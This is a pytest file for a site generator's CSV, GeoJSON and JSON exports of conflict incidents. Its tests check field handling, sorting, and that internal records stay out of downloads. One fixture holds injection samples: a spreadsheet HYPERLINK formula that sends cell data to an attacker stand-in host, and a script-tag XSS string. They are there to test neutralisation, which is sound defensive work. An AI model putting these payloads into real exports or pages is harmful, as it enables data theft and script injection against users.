"""Downloads: CSV, GeoJSON and JSON of public incidents (sitegen.render.exports)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest

from sitegen.model import DEFAULT_EVENT_TYPES, EventType, GeoPrecision, Incident, Source, Visibility
from sitegen.render.exports import COLUMNS, FIELD_DOCS, dump_json, incidents_csv, incidents_geojson, incidents_json

TYPES = DEFAULT_EVENT_TYPES

NIAMEY = Incident(
    id="2023-09-26-niamey",
    date=dt.date(2023, 9, 26),
    title="Protest outside the French embassy in Niamey",
    type="protest",
    country="NE",
    location="Niamey",
    lat=13.51,
    lon=2.11,
    admin1="Niamey",
    actors=("Protesters",),
    sources=(Source("Local radio", "https://example.org/radio", dt.date(2023, 9, 27)), Source("Witness")),
)
OUAGADOUGOU = Incident(
    id="2023-09-27-ouagadougou",
    date=dt.date(2023, 9, 27),
    title="Gunfire heard near Ouagadougou barracks",
    type="battle",
    country="BF",
    location="Ouagadougou",
    lat=12.37,
    lon=-1.53,
    fatalities=2,
    injured=5,
    summary='Shots, then calm. "Quoted", with, commas\nand a second line.',
)
HOSTILE = Incident(
    id="2023-09-28-kandadji",
    date=dt.date(2023, 9, 28),
    title='=HYPERLINK("https://evil.example/?"&A1,"click")',
    type="battle",
    country="NE",
    location="\tKandadji",
    lat=14.62,
    lon=0.98,
    subtype="-armed-clash",
    actors=("+Niger armed forces", "@jihadists"),
    fatalities=7,
    summary="-1 soldier\r\nand </script><script>alert(1)</script>",
    tags=("tri-border",),
    geo_precision=GeoPrecision.NEAR,
)
SECRET = Incident(
    id="2023-09-28-secret-informant",
    date=dt.date(2023, 9, 28),
    title="Informant meeting at Ayorou",
    type="strategic-development",
    country="NE",
    location="Ayorou",
    lat=14.73,
    lon=0.92,
    summary="Name of the informant",
    visibility=Visibility.INTERNAL,
)
ALL = [HOSTILE, SECRET, OUAGADOUGOU, NIAMEY]


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# --- CSV ------------------------------------------------------------------------------


def test_csv_parses_back_with_the_csv_module_one_row_per_public_incident():
    text = incidents_csv(ALL, TYPES)
    header = next(csv.reader(io.StringIO(text, newline="")))
    rows = read_csv(text)
    assert header == list(COLUMNS)
    assert [r["id"] for r in rows] == [NIAMEY.id, OUAGADOUGOU.id, HOSTILE.id], "rows must be sorted by date then id"
    ouaga = rows[1]
    assert ouaga["summary"] == OUAGADOUGOU.summary, "quotes, commas and newlines must survive RFC 4180 quoting"
    assert ouaga["fatalities"] == "2" and ouaga["injured"] == "5"
    assert rows[0]["injured"] == "", "an unreported count is an empty cell, not 0"
    assert ouaga["country_name"] and ouaga["type_label"] == "Battle"
    assert ouaga["week"] == "2023-W39"


def test_csv_uses_crlf_line_ends_and_utf8_text():
    text = incidents_csv([NIAMEY], TYPES)
    assert text.endswith("\r\n")
    assert text.count("\r\n") == 2 and "\n" not in text.replace("\r\n", "")
    accented = Incident(**{**_fields(NIAMEY), "admin1": "Tillabéri"})
    assert "Tillabéri" in incidents_csv([accented], TYPES)


def test_csv_lists_are_joined_with_semicolons():
    row = read_csv(incidents_csv([NIAMEY], TYPES))[0]
    assert row["actors"] == "Protesters"
    assert row["sources"] == "Local radio; Witness"
    assert row["source_urls"] == "https://example.org/radio"


def test_csv_neutralises_formula_cells():
    row = read_csv(incidents_csv([HOSTILE], TYPES))[0]
    assert row["title"] == "'" + HOSTILE.title
    assert row["actors"] == "'+Niger armed forces; @jihadists"
    assert row["location"] == "'\tKandadji"
    assert row["subtype"] == "'-armed-clash"
    assert row["summary"].startswith("'-1 soldier")
    for name, value in row.items():
        formula = value.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert not formula, f"column {name} would run as a formula: {value!r}"


def test_csv_keeps_negative_numbers_as_numbers():
    row = read_csv(incidents_csv([OUAGADOUGOU], TYPES))[0]
    assert row["lon"] == "-1.53", "a negative longitude must not get the formula apostrophe"
    assert float(row["lon"]) == -1.53 and float(row["lat"]) == 12.37


def test_csv_writes_tiny_coordinates_without_exponent():
    near_zero = Incident(**{**_fields(NIAMEY), "lon": 0.00001})
    assert read_csv(incidents_csv([near_zero], TYPES))[0]["lon"] == "0.00001"


def test_csv_of_nothing_is_just_the_header():
    assert incidents_csv([], TYPES) == ",".join(COLUMNS) + "\r\n"


# --- no internal data, in any format ----------------------------------------------------


@pytest.mark.parametrize(
    "export",
    [
        lambda: incidents_csv(ALL, TYPES),
        lambda: dump_json(incidents_geojson(ALL, TYPES)),
        lambda: dump_json(incidents_json(ALL, TYPES)),
    ],
    ids=["csv", "geojson", "json"],
)
def test_internal_incidents_are_absent(export):
    text = export()
    for secret in (SECRET.id, SECRET.title, SECRET.summary, "Ayorou", "internal", "visibility"):
        assert secret not in text, f"internal data {secret!r} leaked into an export"


# --- GeoJSON ----------------------------------------------------------------------------


def test_geojson_points_are_lon_lat():
    collection = incidents_geojson([NIAMEY], TYPES)
    point = collection["features"][0]["geometry"]
    assert point == {"type": "Point", "coordinates": [2.11, 13.51]}, "RFC 7946 wants [longitude, latitude]"


def test_geojson_is_a_sorted_feature_collection_with_csv_fields():
    collection = json.loads(dump_json(incidents_geojson(ALL, TYPES)))
    assert collection["type"] == "FeatureCollection"
    assert [f["id"] for f in collection["features"]] == [NIAMEY.id, OUAGADOUGOU.id, HOSTILE.id]
    for feature in collection["features"]:
        assert feature["type"] == "Feature"
        assert set(feature["properties"]) == set(COLUMNS)
    props = collection["features"][0]["properties"]
    assert props["sources"] == ["Local radio", "Witness"] and props["actors"] == ["Protesters"]
    assert props["injured"] is None and props["subtype"] is None
    west = collection["features"][1]
    assert west["geometry"]["coordinates"] == [-1.53, 12.37]
    assert collection["features"][2]["properties"]["title"] == HOSTILE.title, "JSON keeps text as is (no apostrophe)"


def test_geojson_uses_the_site_event_types():
    custom = (EventType("protest", "Demonstration", "#000000"),)
    props = incidents_geojson([NIAMEY], custom)["features"][0]["properties"]
    assert props["type_label"] == "Demonstration"
    unknown = incidents_geojson([OUAGADOUGOU], custom)["features"][0]["properties"]
    assert unknown["type_label"] == "battle"


# --- JSON -------------------------------------------------------------------------------


def test_json_records_carry_sources_as_objects():
    records = incidents_json(ALL, TYPES)["incidents"]
    assert [r["id"] for r in records] == [NIAMEY.id, OUAGADOUGOU.id, HOSTILE.id]
    assert records[0]["sources"] == [
        {"name": "Local radio", "url": "https://example.org/radio", "date": "2023-09-27"},
        {"name": "Witness", "url": None, "date": None},
    ]
    assert records[2]["geo_precision"] == "near"
    assert records[2]["tags"] == ["tri-border"]


def test_dump_json_is_deterministic_compact_and_safe_inside_script():
    text = dump_json(incidents_json(ALL, TYPES))
    assert text == dump_json(incidents_json(list(reversed(ALL)), TYPES))
    assert dump_json({"b": 1, "a": [1, 2]}) == '{"a":[1,2],"b":1}'
    assert "</script>" not in text and "<" not in text, "JSON must stay inert inside an HTML <script>"
    assert json.loads(text)["incidents"][2]["summary"] == HOSTILE.summary
    assert "é" in dump_json({"a": "é"}), "UTF-8 text, not \\u escapes"
    with pytest.raises(ValueError):
        dump_json({"lat": float("nan")})


# --- field documentation ----------------------------------------------------------------


def test_field_docs_describe_every_column():
    docs = list(FIELD_DOCS)
    assert [name for name, _ in docs] == list(COLUMNS)
    for name, description in docs:
        assert description and not description.startswith("column."), f"column {name} has no description"


def _fields(incident: Incident) -> dict:
    return {name: getattr(incident, name) for name in incident.__slots__}


def test_the_downloads_carry_each_incidents_translations():
    """title_fr and summary_fr were in no download: an incident written in French only had
    an empty summary in the CSV and null in JSON, while both editions' pages showed it."""
    import dataclasses

    french = dataclasses.replace(NIAMEY, title_fr="Manifestation devant l’ambassade de France", summary_fr="Des centaines de *manifestants*.")
    row = next(csv.DictReader(io.StringIO(incidents_csv([french, OUAGADOUGOU], TYPES))))
    assert (row["title_fr"], row["summary_fr"], row["summary"], row["title_en"]) == (
        "Manifestation devant l’ambassade de France", "Des centaines de *manifestants*.", "", "")
    record = incidents_json([french], TYPES)["incidents"][0]
    assert (record["title_fr"], record["summary_fr"], record["summary_en"]) == (french.title_fr, french.summary_fr, None)
    feature = incidents_geojson([french], TYPES)["features"][0]
    assert feature["properties"]["summary_fr"] == french.summary_fr
